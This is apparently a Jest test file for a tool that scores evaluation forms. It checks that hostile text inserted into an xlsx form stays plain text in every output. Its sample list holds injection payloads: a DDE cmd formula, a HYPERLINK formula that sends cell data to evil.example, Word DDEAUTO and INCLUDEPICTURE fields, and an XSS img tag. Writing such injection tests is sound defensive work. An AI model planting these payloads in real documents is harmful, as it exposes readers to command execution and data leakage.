/**
 * A form whose names, targets and words are made to run something in whoever's program opens what we write: nothing of it may become a
 * formula, a field, a link or a tag in any output, and all of it must stand there as the text that it is.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { readXml } from './xml-words';
import type { EvaluationRecord } from '../../src/cli/record';
import { runScoreCommand } from '../../src/cli/score-command';
import { openWorkbook } from '../../src/file/open-workbook';
import type { XlsxWorkbook } from '../../src/xlsx';

jest.setTimeout(120_000);

const sample = path.resolve(__dirname, '../../assets/samples/附件1.xlsx');

/** Every one has `evil` in it, so that it is found wherever it goes. */
const hostile = [
  '=HYPERLINK("http://evil.example/"&A1,"点我")',
  "=cmd|' /C evil'!A0",
  '+1+evil()',
  '-2+evil()',
  '@SUM(evil)',
  "'=evil()",
  '\t=evil()',
  '\n=evil()',
  '<script>evil()</script>',
  '</w:t></w:r><w:fldSimple w:instr="DDEAUTO evil"/>]]>&evil;',
  'INCLUDEPICTURE "http://evil.example/a.png"',
  '"><img src=x onerror=evil()>',
  '{"evil": "\\u2028"}\u2028\u0085',
  '${evil}{{evil}}%evil%',
] as const;

/** Two of them a workbook: one for what the form is about, one for a row. */
const pairs = hostile.flatMap((about, index) => {
  const row = hostile[index + 1];
  return index % 2 === 0 && row !== undefined ? [{ about, row }] : [];
});

const evil = /evil/;

function open(bytes: Uint8Array): XlsxWorkbook {
  const opening = openWorkbook(bytes);
  if (!opening.ok) throw new Error(opening.detail);
  return opening.workbook;
}

/** A formula without the names of sheets that it refers to: a working paper's sheet bears its project's name. */
const withoutSheetNames = (formula: string): string => formula.replace(/'(?:[^']|'')*'!/g, '!');

/** The published form with hostile texts in every place where people write. */
function poisoned({ about, row: ofRow }: (typeof pairs)[number]): Uint8Array {
  const workbook = open(new Uint8Array(readFileSync(sample)));
  const sheet = workbook.activeSheet;
  const put = (row: number, column: number, content: string) => {
    expect(sheet.setConstant(row, column, content)).toBe('done');
  };
  const names = ['“智慧政务”项目服务费', '承德县行政审批局'];
  const used = sheet.usedBlock(true);
  if (used === null) throw new Error('no form');
  for (let row = used.top; row <= used.bottom; row += 1) {
    for (let column = used.left; column <= used.right; column += 1) {
      if (names.includes(String(sheet.value(row, column)))) put(row, column, about);
    }
  }
  // A row: its name, target, actual and note; the goal.
  for (const [row, column] of [
    [13, 3],
    [37, 3],
    [37, 4],
    [37, 5],
    [37, 8],
    [11, 1],
    [11, 5],
  ] as const)
    put(row, column, ofRow);
  return workbook.save();
}

interface Outputs {
  readonly folder: string;
  readonly lines: readonly string[];
  readonly complaints: readonly string[];
}

async function everythingFrom(folder: string): Promise<Outputs> {
  const out = path.join(folder, 'out');
  const lines: string[] = [];
  const complaints: string[] = [];
  await runScoreCommand(
    [
      path.join(folder, 'in'),
      '--json',
      '--all',
      '--write',
      path.join(out, 'copies'),
      '--report',
      path.join(out, 'reports'),
      '--handin',
      path.join(out, 'handed-in'),
      '--handin-summary',
      path.join(out, 'sheets'),
      '--unit-report',
      path.join(out, '单位报告.docx'),
      '--summary',
      path.join(out, '汇总.xlsx'),
      '--working-papers',
      path.join(out, '底稿.xlsx'),
      '--review-report',
      path.join(out, '复核.docx'),
    ],
    { print: (line) => lines.push(line), complain: (line) => complaints.push(line) },
    { program: '', at: '2026-03-20T08:00:00.000Z' },
  );
  return { folder: out, lines, complaints };
}

let outputs: Outputs;
const filesOf = (ending: string): readonly string[] =>
  readdirSync(outputs.folder, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith(ending))
    .sort();
const bytesOf = (file: string): Uint8Array => new Uint8Array(readFileSync(path.join(outputs.folder, file)));

beforeAll(async () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'ziping-hostile-'));
  mkdirSync(path.join(folder, 'in'));
  for (const [index, pair] of pairs.entries()) {
    writeFileSync(path.join(folder, 'in', `${index}.xlsx`), poisoned(pair));
  }
  outputs = await everythingFrom(folder);
});

it('everything was made', () => {
  expect(filesOf('.xlsx')).toHaveLength(2 * pairs.length + 2);
  expect(filesOf('.docx')).toHaveLength(2 * pairs.length + 2);
});

it('records: one line of JSON for each workbook, and the texts as they were', () => {
  expect(outputs.lines.flatMap((line) => line.split(/[\n\r\u0085\u2028\u2029]/))).toHaveLength(pairs.length);
  const projects = outputs.lines.map((line) => (JSON.parse(line) as EvaluationRecord).forms[0]?.project ?? '');
  for (const [index, { about }] of pairs.entries())
    expect(projects[index]?.replace(/\s/g, '')).toBe(about.replace(/\s/g, ''));
});

it('workbooks: no formula, link or name of theirs; every hostile text is a text', () => {
  for (const file of filesOf('.xlsx')) {
    const bytes = bytesOf(file);
    let texts = 0;
    for (const sheet of open(bytes).sheets) {
      const used = sheet.usedBlock(true);
      for (let row = used?.top ?? 0; row <= (used?.bottom ?? -1); row += 1) {
        for (const column of sheet.filledColumns(row)) {
          const formula = sheet.formula(row, column);
          expect({ file, row, column, formula: formula !== null && evil.test(withoutSheetNames(formula)) }).toEqual({
            file,
            row,
            column,
            formula: false,
          });
          if (evil.test(String(sheet.value(row, column)))) texts += 1;
        }
      }
    }
    expect({ file, has: texts > 0 }).toEqual({ file, has: true });
    for (const [name, data] of Object.entries(unzipSync(bytes))) {
      // Whatever stands in them, parts stay well-formed: this throws for one that is not.
      if (/\.(?:xml|rels|vml)$/.test(name)) readXml(strFromU8(data));
      if (/\.rels$|externalLink/.test(name)) {
        expect({ file, name, evil: evil.test(strFromU8(data)) }).toEqual({ file, name, evil: false });
      }
      if (name !== 'xl/workbook.xml') continue;
      const defined = readXml(strFromU8(data)).elements.filter(({ local }) => local === 'definedName');
      expect(defined.map((one) => withoutSheetNames(one.text)).filter((text) => evil.test(text))).toEqual([]);
    }
  }
});

it('documents: no field, link or part of theirs; every hostile text is a text', () => {
  for (const file of filesOf('.docx')) {
    const parts = Object.entries(unzipSync(bytesOf(file)));
    let words = '';
    for (const [name, data] of parts) {
      if (!/\.(?:xml|rels)$/.test(name)) continue;
      const { elements, text } = readXml(strFromU8(data));
      const theirs = elements.filter(({ attributes }) => Object.values(attributes).some((value) => evil.test(value)));
      // The properties' title is a text, too.
      expect({ file, name, theirs }).toEqual({ file, name, theirs: [] });
      const active = elements.filter(({ local }) =>
        ['hyperlink', 'fldSimple', 'altChunk', 'object', 'attachedTemplate'].includes(local),
      );
      expect({ file, name, active }).toEqual({ file, name, active: [] });
      const fields = elements.filter(({ local }) => local === 'instrText').map((one) => one.text.trim());
      expect({ file, name, fields: fields.filter((field) => field !== 'PAGE') }).toEqual({ file, name, fields: [] });
      if (name === 'word/document.xml') words = text;
    }
    expect({ file, has: evil.test(words) }).toEqual({ file, has: true });
  }
});
